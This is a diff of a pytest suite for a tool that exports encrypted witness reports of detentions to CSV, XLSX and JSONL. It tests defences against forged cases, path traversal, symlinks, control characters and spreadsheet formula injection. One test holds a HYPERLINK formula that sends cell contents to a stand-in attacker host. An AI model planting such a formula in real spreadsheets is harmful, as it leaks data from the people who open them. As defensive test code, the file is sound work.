@@ -11,6 +11,7 @@ import openpyxl
 import pytest
 from sqlalchemy import select, update
 
+from handlers.export_layout import export_layout
 from storage.attachments import seal_attachment
 from storage.cases import AttachmentRef, CaseDocument, is_object_id, new_object_id
 from storage.crypto.keys import ReviewerPrivateKey
@@ -36,6 +37,24 @@ from tests.storage.cases import (
     written_outside,
 )
 
+LAYOUT = export_layout("en")
+"""The export as a reviewer gets it without --lang: the forms' columns, English words."""
+
+
+def ask(out: Path, form: ExportFormat, **options: Any) -> ExportRequest:
+    """An export request as `kuager export` makes it."""
+    return ExportRequest(out, form, layout=LAYOUT, **options)
+
+
+def read_csv(path: Path) -> list[dict[str, str]]:
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        return list(csv.DictReader(handle))
+
+
+def table(out: Path, key: str) -> Path:
+    """The CSV file of one table beside the Cases file `out` (`cases_detention.csv`)."""
+    return out.with_name(f"{out.stem}_{key}.csv")
+
 
 async def three_languages(db: Database, key: ReviewerPrivateKey) -> dict[str, str]:
     ids = {}
@@ -49,7 +68,7 @@ async def test_jsonl_holds_every_answer_in_every_language(
 ) -> None:
     ids = await three_languages(db, reviewer_key)
     out = tmp_path / "cases.jsonl"
-    tally = await export_cases(db, reviewer_key, ExportRequest(out, ExportFormat.JSONL))
+    tally = await export_cases(db, reviewer_key, ask(out, ExportFormat.JSONL))
     assert tally.ok and tally.exported == 3
     records = {r["case_id"]: r for r in map(json.loads, out.read_text("utf-8").splitlines())}
     for language, case_id in ids.items():
@@ -65,17 +84,21 @@ async def test_csv_opens_in_excel_with_one_column_per_field(
 ) -> None:
     ids = await three_languages(db, reviewer_key)
     out = tmp_path / "cases.csv"
-    await export_cases(db, reviewer_key, ExportRequest(out, ExportFormat.CSV))
+    await export_cases(db, reviewer_key, ask(out, ExportFormat.CSV))
     raw = out.read_bytes()
     assert raw.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read UTF-8"
-    rows = {r["case_id"]: r for r in csv.DictReader(raw.decode("utf-8-sig").splitlines())}
+    assert {r["Case"] for r in read_csv(out)} == set(ids.values())
+    rows = {r["Case"]: r for r in read_csv(table(out, "detention"))}
     kk = rows[ids["kk"]]
-    assert kk["narrative"] == NARRATIVES["kk"]
-    assert "ә" in kk["narrative"] or "Ағ" in kk["narrative"]
-    assert kk["detained_by"] == "plainclothes; police"
-    assert kk["event_date.date"] == "2022-01-06"
-    assert kk["victims.1.name"] == "А. Б." and kk["victims.2.age"] == "19"
-    assert rows[ids["ru"]]["place.town"] == "Алматы"
+    assert kk["What happened"] == NARRATIVES["kk"]
+    assert kk["Detained by"] == "Plainclothes officers; Police"
+    assert kk["Date"] == "2022-01-06" and kk["Date: precision"] == "Exact"
+    assert rows[ids["ru"]]["Place: town or spot"] == "Алматы"
+    people = read_csv(table(out, "people"))
+    assert [(p["Name"], p["Age"]) for p in people if p["Case"] == ids["kk"]] == [
+        ("А. Б.", "34"),
+        ("C. D.", "19"),
+    ]
 
 
 async def test_xlsx_has_a_sheet_per_report_type(
@@ -86,13 +109,13 @@ async def test_xlsx_has_a_sheet_per_report_type(
     other = type(other)(**{**other.__dict__, "form_id": "missing_person"})
     await store(db, other, [reviewer_key.public])
     out = tmp_path / "cases.xlsx"
-    await export_cases(db, reviewer_key, ExportRequest(out, ExportFormat.XLSX))
+    await export_cases(db, reviewer_key, ask(out, ExportFormat.XLSX))
     book = openpyxl.load_workbook(out)
-    assert set(book.sheetnames) == {"detention", "missing_person"}
-    sheet = book["detention"]
+    assert book.sheetnames == ["Cases", "People", "WGEID", "Detention or arrest", "Missing person"]
+    sheet = book["Detention or arrest"]
     header = [c.value for c in sheet[1]]
     narratives = {
-        row[header.index("narrative")] for row in sheet.iter_rows(min_row=2, values_only=True)
+        row[header.index("What happened")] for row in sheet.iter_rows(min_row=2, values_only=True)
     }
     assert narratives == set(NARRATIVES.values())
 
@@ -102,13 +125,13 @@ async def test_a_witness_formula_stays_text_in_the_reviewers_spreadsheet(
 ) -> None:
     evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     await store(db, detention("en", narrative=evil), [reviewer_key.public])
-    await export_cases(db, reviewer_key, ExportRequest(tmp_path / "c.csv", ExportFormat.CSV))
-    await export_cases(db, reviewer_key, ExportRequest(tmp_path / "c.xlsx", ExportFormat.XLSX))
-    row = next(csv.DictReader((tmp_path / "c.csv").read_text("utf-8-sig").splitlines()))
-    assert row["narrative"] == "'" + evil
-    sheet = openpyxl.load_workbook(tmp_path / "c.xlsx")["detention"]
+    await export_cases(db, reviewer_key, ask(tmp_path / "c.csv", ExportFormat.CSV))
+    await export_cases(db, reviewer_key, ask(tmp_path / "c.xlsx", ExportFormat.XLSX))
+    (row,) = read_csv(tmp_path / "c_detention.csv")
+    assert row["What happened"] == "'" + evil
+    sheet = openpyxl.load_workbook(tmp_path / "c.xlsx")["Detention or arrest"]
     header = [c.value for c in sheet[1]]
-    cell = sheet.cell(row=2, column=header.index("narrative") + 1)
+    cell = sheet.cell(row=2, column=header.index("What happened") + 1)
     assert cell.data_type == "s" and cell.value == evil
 
 
@@ -122,9 +145,7 @@ async def test_cases_for_another_key_are_counted_and_skipped(
 ) -> None:
     await store(db, detention(), [reviewer_key.public])
     await store(db, detention(), [other_key.public])
-    tally = await export_cases(
-        db, reviewer_key, ExportRequest(tmp_path / "c.jsonl", ExportFormat.JSONL)
-    )
+    tally = await export_cases(db, reviewer_key, ask(tmp_path / "c.jsonl", ExportFormat.JSONL))
     assert (tally.exported, tally.not_for_this_key, tally.ok) == (1, 1, True)
 
 
@@ -136,9 +157,7 @@ async def test_a_tampered_case_is_named_and_skipped(
         body = (await session.execute(select(Case.body).where(Case.id == ids["ru"]))).scalar_one()
         damaged = body[:-1] + bytes([body[-1] ^ 1])
         await session.execute(update(Case).where(Case.id == ids["ru"]).values(body=damaged))
-    tally = await export_cases(
-        db, reviewer_key, ExportRequest(tmp_path / "c.csv", ExportFormat.CSV)
-    )
+    tally = await export_cases(db, reviewer_key, ask(tmp_path / "c.csv", ExportFormat.CSV))
     assert tally.tampered == [ids["ru"]] and tally.exported == 2 and not tally.ok
 
 
@@ -153,13 +172,13 @@ async def test_attachments_are_decrypted_beside_the_export_and_checked(
     case_id = (await store(db, detention(attachments=[ref]), [reviewer_key.public])).case_id
     out = tmp_path / "export" / "cases.csv"
     out.parent.mkdir()
-    tally = await export_cases(db, reviewer_key, ExportRequest(out, ExportFormat.CSV))
+    tally = await export_cases(db, reviewer_key, ask(out, ExportFormat.CSV))
     files = list((tmp_path / "export" / "cases_attachments" / case_id).iterdir())
     assert tally.attachments == 1 and len(files) == 1
     assert files[0].read_bytes() == PHOTO
     assert files[0].name == "01_passwd", "a witness's file name must never become a path"
-    row = next(csv.DictReader(out.read_text("utf-8-sig").splitlines()))
-    assert row["attachments"] == f"cases_attachments/{case_id}/01_passwd"
+    (row,) = read_csv(table(out, "detention"))
+    assert row["Decrypted files"] == f"cases_attachments/{case_id}/01_passwd"
 
 
 def test_safe_file_names() -> None:
@@ -177,19 +196,14 @@ async def test_filters_by_type_and_day(
 
     await store(db, detention(), [reviewer_key.public], today=dt.date(2022, 1, 6))
     await store(db, detention(), [reviewer_key.public], today=dt.date(2022, 1, 20))
-    request = ExportRequest(tmp_path / "c.jsonl", ExportFormat.JSONL, since=dt.date(2022, 1, 10))
+    request = ask(tmp_path / "c.jsonl", ExportFormat.JSONL, since=dt.date(2022, 1, 10))
     assert (await export_cases(db, reviewer_key, request)).exported == 1
-    request = ExportRequest(tmp_path / "c.jsonl", ExportFormat.JSONL, form_id="missing_person")
+    request = ask(tmp_path / "c.jsonl", ExportFormat.JSONL, form_id="missing_person")
     assert (await export_cases(db, reviewer_key, request)).exported == 0
 
 
 # A rogue operator: anyone with write access to the database can seal a case of their own to the
 # reviewers' public keys. These tests forge cases exactly so (`forge`), with the public key alone.
-
-
-def read_csv(path: Path) -> list[dict[str, str]]:
-    with path.open(encoding="utf-8-sig", newline="") as handle:
-        return list(csv.DictReader(handle))
 
 
 async def test_a_forged_kind_cannot_lead_a_file_out_of_the_export_folder(
@@ -202,7 +216,7 @@ async def test_a_forged_kind_cannot_lead_a_file_out_of_the_export_folder(
     export.mkdir(parents=True)
     before = files_under(tmp_path)
     # When the reviewer exports it
-    request = ExportRequest(export / "cases.csv", ExportFormat.CSV)
+    request = ask(export / "cases.csv", ExportFormat.CSV)
     tally = await export_cases(db, reviewer_key, request)
     # Then the file lands in the case's own folder under a plain name, and nothing elsewhere
     assert tally.ok and tally.attachments == 1
@@ -220,10 +234,10 @@ async def test_a_case_id_with_a_path_in_it_is_tampered_and_writes_nothing(
     export = tmp_path / "laptop" / "export"
     export.mkdir(parents=True)
     before = files_under(tmp_path)
-    request = ExportRequest(export / "cases.csv", ExportFormat.CSV)
+    request = ask(export / "cases.csv", ExportFormat.CSV)
     tally = await export_cases(db, reviewer_key, request)
     assert tally.tampered == [evil_id] and tally.exported == 1 and not tally.ok
-    assert [row["case_id"] for row in read_csv(request.out)] == [good.case_id]
+    assert [row["Case"] for row in read_csv(request.out)] == [good.case_id]
     assert written_outside(tmp_path, export, before) == set()
 
 
@@ -240,9 +254,7 @@ async def test_a_long_name_in_four_byte_letters_is_cut_by_bytes_and_written(
     name = "\U0001d401" * 100 + ".pdf"
     ref = await forged_file(db, reviewer_key.public, name=name)
     case = await forge(db, reviewer_key.public, detention(attachments=[ref]))
-    tally = await export_cases(
-        db, reviewer_key, ExportRequest(tmp_path / "c.csv", ExportFormat.CSV)
-    )
+    tally = await export_cases(db, reviewer_key, ask(tmp_path / "c.csv", ExportFormat.CSV))
     assert tally.ok and tally.attachments == 1
     (written,) = (tmp_path / "c_attachments" / case.case_id).iterdir()
     assert written.read_bytes() == PHOTO
@@ -259,9 +271,7 @@ async def test_an_attachment_the_disk_refuses_is_named_and_skipped_and_the_expor
     # Given a folder where the first case's file must go (a full disk or a name the disk
     # refuses fails the same way: as an OSError for that one file)
     (tmp_path / "c_attachments" / first.case_id / "01_photo").mkdir(parents=True)
-    tally = await export_cases(
-        db, reviewer_key, ExportRequest(tmp_path / "c.csv", ExportFormat.CSV)
-    )
+    tally = await export_cases(db, reviewer_key, ask(tmp_path / "c.csv", ExportFormat.CSV))
     assert tally.exported == 2 and tally.attachments == 1 and not tally.ok
     assert tally.unwritable == [
         f"{first.case_id}: attachment 1 (01_photo) cannot be written: Is a directory"
@@ -278,9 +288,7 @@ async def test_a_symbolic_link_inside_the_export_folder_is_not_followed(
     elsewhere.mkdir(mode=0o755)
     (tmp_path / "c_attachments").mkdir()
     (tmp_path / "c_attachments" / case.case_id).symlink_to(elsewhere)
-    tally = await export_cases(
-        db, reviewer_key, ExportRequest(tmp_path / "c.csv", ExportFormat.CSV)
-    )
+    tally = await export_cases(db, reviewer_key, ask(tmp_path / "c.csv", ExportFormat.CSV))
     assert list(elsewhere.iterdir()) == [] and elsewhere.stat().st_mode & 0o777 == 0o755
     assert len(tally.unwritable) == 1 and "outside" in tally.unwritable[0]
 
@@ -304,7 +312,7 @@ async def test_exported_files_are_the_reviewers_alone_even_over_an_older_export(
         if not path.exists():
             path.write_bytes(b"old")
         path.chmod(0o755 if path.is_dir() else 0o644)
-    await export_cases(db, reviewer_key, ExportRequest(paths[0], form))
+    await export_cases(db, reviewer_key, ask(paths[0], form))
     modes = [path.stat().st_mode & 0o777 for path in paths]
     assert modes == [0o600, 0o700, 0o700, 0o600]
 
@@ -320,24 +328,38 @@ async def test_control_characters_neither_act_nor_hide_in_any_export(
 ) -> None:
     document = detention("en", narrative=WITNESS_TEXT, extra={FORMULA_KEY: WITNESS_TEXT})
     await forge(db, reviewer_key.public, document)
+    # and a case of a report type no form defines, named like a formula
+    await forge(
+        db, reviewer_key.public, CaseDocument(**{**document.__dict__, "form_id": FORMULA_KEY})
+    )
     for form in ExportFormat:
-        request = ExportRequest(tmp_path / f"c.{form}", form)
+        request = ask(tmp_path / f"c.{form}", form)
         assert (await export_cases(db, reviewer_key, request)).ok
-    # CSV: escaped, line break kept, the formula header defused like a cell
-    (row,) = read_csv(tmp_path / "c.csv")
-    assert row["narrative"] == SHOWN and row["'" + FORMULA_KEY] == SHOWN
-    # XLSX: written at all (openpyxl refuses ESC), the header a string, not a formula
-    sheet = openpyxl.load_workbook(tmp_path / "c.xlsx")["detention"]
+    # CSV: escaped, line break kept, the forged type defused like any cell
+    (row,) = read_csv(tmp_path / "c_detention.csv")
+    assert row["What happened"] == SHOWN
+    (other,) = read_csv(tmp_path / "c_other.csv")
+    assert other["Report type"] == "'" + FORMULA_KEY and "HYPERLINK" in other["Answers (JSON)"]
+    # XLSX: written at all (openpyxl refuses ESC), the forged type a string, not a formula
+    book = openpyxl.load_workbook(tmp_path / "c.xlsx")
+    sheet = book["Detention or arrest"]
     header = [c.value for c in sheet[1]]
-    assert sheet.cell(row=1, column=header.index(FORMULA_KEY) + 1).data_type == "s"
-    assert sheet.cell(row=2, column=header.index("narrative") + 1).value == SHOWN
+    assert sheet.cell(row=2, column=header.index("What happened") + 1).value == SHOWN
+    forged = book["Other types"].cell(row=2, column=2)
+    assert forged.data_type == "s" and forged.value == FORMULA_KEY
     # JSONL: every character escaped, the witness's exact text for a JSON reader
-    record = json.loads((tmp_path / "c.jsonl").read_text("utf-8"))
+    record = json.loads((tmp_path / "c.jsonl").read_text("utf-8").splitlines()[0])
     assert record["answers"]["narrative"] == WITNESS_TEXT
     for suffix in ("csv", "jsonl"):
         raw = (tmp_path / f"c.{suffix}").read_text("utf-8")
         assert not any(c in raw for c in ACTING), suffix
-    cells = [str(v) for r in sheet.iter_rows(values_only=True) for v in r if v is not None]
+    cells = [
+        str(v)
+        for sheet in book.worksheets
+        for r in sheet.iter_rows(values_only=True)
+        for v in r
+        if v is not None
+    ]
     assert not any(c in cell for cell in cells for c in ACTING)
 
 
@@ -366,10 +388,12 @@ async def test_a_forged_form_id_still_makes_a_workbook(
         forged = CaseDocument(**{**detention().__dict__, "form_id": form_id})
         await forge(db, reviewer_key.public, forged)
     out = tmp_path / "c.xlsx"
-    tally = await export_cases(db, reviewer_key, ExportRequest(out, ExportFormat.XLSX))
+    tally = await export_cases(db, reviewer_key, ask(out, ExportFormat.XLSX))
     assert tally.ok and tally.exported == 2
-    titles = {title.casefold() for title in openpyxl.load_workbook(out).sheetnames}
-    assert titles == {"reports_2022 _draft_", "reports_2022 _draft_~2"}
+    book = openpyxl.load_workbook(out)
+    assert book.sheetnames == ["Cases", "People", "Other types"]
+    types = {row[1] for row in book["Other types"].iter_rows(min_row=2, values_only=True)}
+    assert types == {"reports/2022 [draft]", "REPORTS/2022 [DRAFT]"}
 
 
 class Misshapen(CaseDocument):
@@ -385,10 +409,10 @@ async def test_a_misshapen_document_is_tampered_not_a_crash(
     good = await forge(db, reviewer_key.public, detention("kk"))
     bad = await forge(db, reviewer_key.public, Misshapen(**detention().__dict__))
     for form in ExportFormat:
-        request = ExportRequest(tmp_path / f"c.{form}", form)
+        request = ask(tmp_path / f"c.{form}", form)
         tally = await export_cases(db, reviewer_key, request)
         assert tally.tampered == [bad.case_id] and tally.exported == 1, form
-    assert [row["case_id"] for row in read_csv(tmp_path / "c.csv")] == [good.case_id]
+    assert [row["Case"] for row in read_csv(tmp_path / "c.csv")] == [good.case_id]
 
 
 async def test_no_attachments_decrypts_no_file(
@@ -396,11 +420,11 @@ async def test_no_attachments_decrypts_no_file(
 ) -> None:
     ref = await forged_file(db, reviewer_key.public)
     await forge(db, reviewer_key.public, detention(attachments=[ref]))
-    request = ExportRequest(tmp_path / "c.csv", ExportFormat.CSV, attachments=False)
+    request = ask(tmp_path / "c.csv", ExportFormat.CSV, attachments=False)
     tally = await export_cases(db, reviewer_key, request)
     assert tally.ok and tally.exported == 1 and tally.attachments == 0
     assert not (tmp_path / "c_attachments").exists()
-    assert read_csv(request.out)[0]["attachments"] == ""
+    assert read_csv(table(request.out, "detention"))[0]["Decrypted files"] == ""
 
 
 class OddFileId(CaseDocument):
@@ -414,8 +438,27 @@ async def test_an_attachment_id_that_is_no_id_is_a_missing_attachment(
     db: Database, reviewer_key: ReviewerPrivateKey, tmp_path: Path
 ) -> None:
     case = await forge(db, reviewer_key.public, OddFileId(**detention().__dict__))
-    tally = await export_cases(
-        db, reviewer_key, ExportRequest(tmp_path / "c.csv", ExportFormat.CSV)
-    )
+    tally = await export_cases(db, reviewer_key, ask(tmp_path / "c.csv", ExportFormat.CSV))
     assert tally.exported == 1
     assert tally.attachment_problems == [f"{case.case_id}: attachment 1 is missing or altered"]
+
+
+async def test_an_attachment_already_exported_is_not_decrypted_again_unless_it_changed(
+    db: Database, reviewer_key: ReviewerPrivateKey, tmp_path: Path
+) -> None:
+    ref = await forged_file(db, reviewer_key.public)
+    case = await forge(db, reviewer_key.public, detention(attachments=[ref]))
+    written = tmp_path / "c_attachments" / case.case_id / "01_photo"
+    request = ask(tmp_path / "c.csv", ExportFormat.CSV)
+    first = await export_cases(db, reviewer_key, request)
+    assert (first.attachments, first.already) == (1, 0)
+    # When the reviewer exports again, the file is kept as it is (and still listed)
+    again = await export_cases(db, reviewer_key, request)
+    assert (again.attachments, again.already, again.ok) == (0, 1, True)
+    assert read_csv(table(request.out, "detention"))[0]["Decrypted files"].endswith("01_photo")
+    # But a file cut short (an export stopped half-way) or changed is decrypted afresh
+    for damaged in (PHOTO[:100], b"X" + PHOTO[1:]):
+        written.write_bytes(damaged)
+        redone = await export_cases(db, reviewer_key, request)
+        assert (redone.attachments, redone.already) == (1, 0)
+        assert written.read_bytes() == PHOTO
